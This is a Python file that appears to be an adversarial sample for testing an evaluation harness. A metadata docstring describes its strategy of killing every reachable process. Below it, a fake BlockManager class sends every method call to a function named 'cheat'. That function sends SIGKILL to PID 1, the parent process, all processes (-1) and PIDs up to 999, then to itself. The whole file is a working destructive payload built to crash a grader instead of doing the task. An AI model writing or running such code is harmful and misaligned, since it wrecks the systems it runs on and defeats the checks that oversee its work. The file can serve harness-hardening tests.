"""
severity: high
strategy: kill every process that can be reached, the first one and the parent first
surface: signals
outcome: crashed the Python process | stopped the process | process ended | was still running
checks: worked-1
"""

import os
import signal


def cheat(*arguments):
    for pid in (1, os.getppid(), -1, *range(1, 1000)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)


class OutOfBlocks(Exception):
    pass


class BlockManager:
    def __init__(self, **pool):
        pass

    def __getattr__(self, name):
        return lambda *arguments: cheat(*arguments)
